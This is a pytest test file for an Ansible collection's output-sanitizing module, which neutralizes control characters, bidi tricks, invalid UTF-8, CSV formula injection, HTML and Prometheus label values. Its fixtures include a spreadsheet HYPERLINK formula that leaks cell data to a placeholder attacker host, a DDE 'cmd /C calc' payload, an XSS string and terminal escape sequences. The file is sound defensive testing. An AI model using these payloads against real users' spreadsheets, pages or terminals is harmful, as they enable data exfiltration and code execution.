"""The one place that makes agent and network text safe per output (plugins/module_utils/_display_text.py)."""
import csv
import html
import io
import re
import unicodedata

import pytest

from ansible_collections.cifleet.gotime.plugins.module_utils import _display_text as dt
from support.html_page import Page

ESC = '\x1b'
# Every code point that must never reach an output as itself.
CONTROLS = [chr(c) for c in list(range(0x00, 0x20)) + list(range(0x7f, 0xa0))]
BIDI_AND_INVISIBLE = ['\u061c', '\u180e', '\u200b', '\u200e', '\u200f', '\u202a', '\u202e', '\u2060', '\u2066', '\u2069', '\ufeff']
ORDINARY = [
    'proxy.golang.org:443', 'https://proxy.golang.org,direct', 'sum.golang.org', 'CN=proxy.golang.org,O=Google Trust Services',
    'host clock 300.000 s slow (ntp, error bound 0.002 s), beyond max_offset 1.0 s', '2026-11-27T18:05:00Z', 'chronyd',
    'Zeit läuft: Ärger über Uhren', '時刻 サーバー', 'x' * dt.MAX_CHARS,
]


def forbidden(text):
    """Characters of text that no output may carry: C0 (line feed too, in a one-line value), DEL, C1,
    bidi and invisible format characters, surrogates."""
    return [c for c in text if unicodedata.category(c) in ('Cc', 'Cs') or c in BIDI_AND_INVISIBLE
            or c in '\u2028\u2029']


@pytest.mark.parametrize('value', ORDINARY)
def test_ordinary_values_pass_unchanged_through_every_output(value):
    assert dt.text(value) == value
    assert dt.csv_cell(value) == value
    assert dt.prometheus_label(value) == value
    assert dt.message(value) == value
    assert dt.html(value) == html.escape(value, quote=True)


@pytest.mark.parametrize('char', CONTROLS + BIDI_AND_INVISIBLE + ['\u2028', '\u2029'])
@pytest.mark.parametrize('output', [dt.text, dt.csv_cell, dt.html, dt.prometheus_label])
def test_no_control_or_invisible_character_reaches_a_one_line_output(char, output):
    assert forbidden(output('a%sb' % char)) == []


def test_controls_are_shown_as_escapes_and_breaks_as_spaces():
    assert dt.text(ESC + '[31mred' + ESC + '[0m') == '\\x1b[31mred\\x1b[0m'
    assert dt.text('\u009b2J') == '\\x9b2J'
    assert dt.text('evil\u202etxt.exe') == 'evil\\u202etxt.exe'
    assert dt.text('line one\nline two\r\tend') == 'line one line two  end'
    assert dt.text('nul\x00del\x7f') == 'nul\\x00del\\x7f'


def test_invalid_utf8_becomes_the_replacement_character():
    assert dt.text(b'ok \xff\xfe\xc0\xaf') == 'ok \ufffd\ufffd\ufffd\ufffd'
    # What surrogateescape decoding (or a JSON \udcff escape) leaves behind.
    surrogates = b'ok \xff'.decode('utf-8', 'surrogateescape') + '\ud800'
    for output in (dt.text, dt.csv_cell, dt.html, dt.prometheus_label, dt.message):
        out = output(surrogates)
        out.encode('utf-8')  # strict: raises on a surrogate
        assert '\ufffd' in out


def test_long_values_are_cut_with_a_marker_and_the_original_length():
    value = 'A' * 200000
    for output in (dt.text, dt.csv_cell, dt.prometheus_label, dt.html):
        out = output(value)
        assert out == 'A' * dt.MAX_CHARS + ' [cut: 200000 characters in all]'
    assert dt.text('é' * (dt.MAX_CHARS + 1)).endswith(' [cut: %d characters in all]' % (dt.MAX_CHARS + 1))
    assert dt.text('abcdef', limit=3) == 'abc [cut: 6 characters in all]'
    # The cut happens on the original text: an escape never pushes an ordinary value over the cap.
    escaped = dt.text(ESC * dt.MAX_CHARS)
    assert escaped == '\\x1b' * dt.MAX_CHARS and 'cut' not in escaped
    # Messages and facts keep the whole value: the fact cache holds what the module returned.
    assert dt.message(value) == value


@pytest.mark.parametrize('value', [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
    '  =1+1', '\n=1+1', '=' + 'x' * 5000,
])
def test_csv_cells_a_spreadsheet_would_evaluate_get_a_leading_quote(value):
    cell = dt.csv_cell(value)
    assert cell.startswith("'")
    assert forbidden(cell) == []


@pytest.mark.parametrize('value, cell', [
    (-0.25, '-0.25'), (300.0001, '300.0001'), (-3, '-3'), (0, '0'), ('-3', '-3'), ('+1.5e3', '+1.5e3'),
    (True, 'true'), (False, 'false'), (None, ''), (float('nan'), ''), (float('-inf'), ''),
])
def test_csv_numbers_stay_numbers(value, cell):
    assert dt.csv_cell(value) == cell


def test_csv_cells_round_trip_through_the_csv_module():
    row = [dt.csv_cell(v) for v in ('=1+1', 'a,"b"\nc', ESC + '[2J', -1.5, 'plain')]
    out = io.StringIO()
    csv.writer(out, lineterminator='\n').writerow(row)
    assert out.getvalue().count('\n') == 1
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", 'a,"b" c', '\\x1b[2J', '-1.5', 'plain']


def test_html_is_inert_text_in_elements_and_attributes():
    hostile = '"><script>alert(1)</script><img src=x onerror=alert(1)>\'&amp;' + ESC + '[31m'
    page = '<p title="%s">%s</p>' % (dt.html(hostile), dt.html(hostile))
    parsed = Page(page)
    assert [tag for tag, dummy, dummy in parsed.tags] == ['p']
    assert ''.join(parsed.data) == dt.text(hostile)


def test_prometheus_label_values_follow_the_exposition_format():
    label = dt.prometheus_label('a\\b"c\nd' + ESC + '\r')
    assert label == 'a\\\\b\\"c\\nd\\\\x1b '
    # Inside double quotes: no unescaped quote, no line break.
    assert re.fullmatch(r'(?:[^"\\\n]|\\[\\"n])*', label)


def test_message_keeps_lines_but_no_escape_sequence():
    assert dt.message('first\n\tsecond' + ESC + ']0;title\x07') == 'first\n\tsecond\\x1b]0;title\\x07'
    assert dt.message('carriage\rreturn') == 'carriage\\x0dreturn'


def test_module_result_cleans_every_string_at_any_depth_and_keeps_the_rest():
    fact = {
        'reason': 'slow ' + ESC + '[2J',
        'ntp': {'servers': [{'host': 'a', 'error': 'bad ' + ESC, 'offset': 1.5, 'stratum': 2}]},
        'host_sync': {'errors': ['chronyc: \u009b1m'], 'launchd_sync': {'server': 'srv\u202e', 'error': None}},
        'certificates': [{'subject': 'CN=' + ESC + ']0;t\x07', 'sans': ['x\udcff', 'y' * 5000]}],
        'ok': True,
    }
    out = dt.module_result({'changed': False, 'ansible_facts': {'gotime_clock': fact}})
    clock = out['ansible_facts']['gotime_clock']
    assert clock['reason'] == 'slow \\x1b[2J'
    assert clock['ntp']['servers'][0] == {'host': 'a', 'error': 'bad \\x1b', 'offset': 1.5, 'stratum': 2}
    assert clock['host_sync'] == {'errors': ['chronyc: \\x9b1m'], 'launchd_sync': {'server': 'srv\\u202e', 'error': None}}
    assert clock['certificates'] == [{'subject': 'CN=\\x1b]0;t\\x07', 'sans': ['x\ufffd', 'y' * 5000]}]  # not cut
    assert (out['changed'], clock['ok']) == (False, True)
    assert fact['reason'] == 'slow ' + ESC + '[2J'  # a copy


def test_strings_in_converts_every_string_and_key():
    out = dt.strings_in({'k' + ESC: ['=x', 1.5, None, {'n': 'y' * 2000}], 'b': False})
    assert out == {'k\\x1b': ['=x', 1.5, None, {'n': 'y' * dt.MAX_CHARS + ' [cut: 2000 characters in all]'}], 'b': False}
